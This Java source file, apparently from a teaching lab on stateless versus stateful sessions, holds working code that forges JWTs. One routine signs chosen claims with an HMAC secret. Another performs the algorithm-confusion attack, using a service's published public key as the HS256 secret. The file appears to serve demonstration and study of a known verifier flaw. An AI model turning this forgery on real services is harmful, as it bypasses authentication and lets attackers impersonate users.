package interviewlab.statelessvsstateful.attacker;

import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jwt.JWTClaimsSet;
import com.nimbusds.jwt.SignedJWT;
import interviewlab.statelessvsstateful.cluster.Browser;
import interviewlab.statelessvsstateful.cluster.Reply;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.Base64;
import java.util.Date;

/** Tokens made by someone who is not the service: what they can sign, with what they hold. */
public final class Forgeries {
    private static final Duration FORGED_LIFETIME = Duration.ofMinutes(10);

    private Forgeries() {}

    /** The claims a forger writes for a user: a subject, a locale, an id and an expiry ten minutes ahead. */
    public static JWTClaimsSet claimsFor(String user, String locale) {
        return new JWTClaimsSet.Builder()
                .subject(user)
                .claim("locale", locale)
                .jwtID("forged")
                .expirationTime(Date.from(Instant.now().plus(FORGED_LIFETIME)))
                .build();
    }

    /** The claims signed with an HMAC algorithm and this secret (at least as long as the algorithm's hash). */
    public static String hmacSigned(JWTClaimsSet claims, JWSAlgorithm algorithm, String secret) throws JOSEException {
        SignedJWT jwt = new SignedJWT(new JWSHeader(algorithm), claims);
        jwt.sign(new MACSigner(secret.getBytes(StandardCharsets.UTF_8)));
        return jwt.serialize();
    }

    /**
     * The algorithm-confusion forgery (RFC 8725 §2.1): the public key as the service publishes it, its bytes as the
     * secret of an HS256 signature over the claims. Anyone can do it; it works only on a verifier that lets the
     * token's header pick the algorithm it uses the key with.
     */
    public static String withThePublishedKey(Browser attacker, JWTClaimsSet claims) throws JOSEException {
        Reply published = attacker.publicKey();
        if (published.status() != 200) {
            throw new IllegalStateException("the service publishes no public key: " + published + " "
                    + published.body().strip());
        }
        // snippet:forge-with-the-public-key
        String pem = published.body(); // -----BEGIN PUBLIC KEY----- … -----END PUBLIC KEY-----
        byte[] publicKeyBytes = Base64.getMimeDecoder().decode(pem.replaceAll("-----[A-Z ]+-----", ""));
        SignedJWT forged = new SignedJWT(new JWSHeader(JWSAlgorithm.HS256), claims);
        forged.sign(new MACSigner(publicKeyBytes));
        // end-snippet
        return forged.serialize();
    }
}
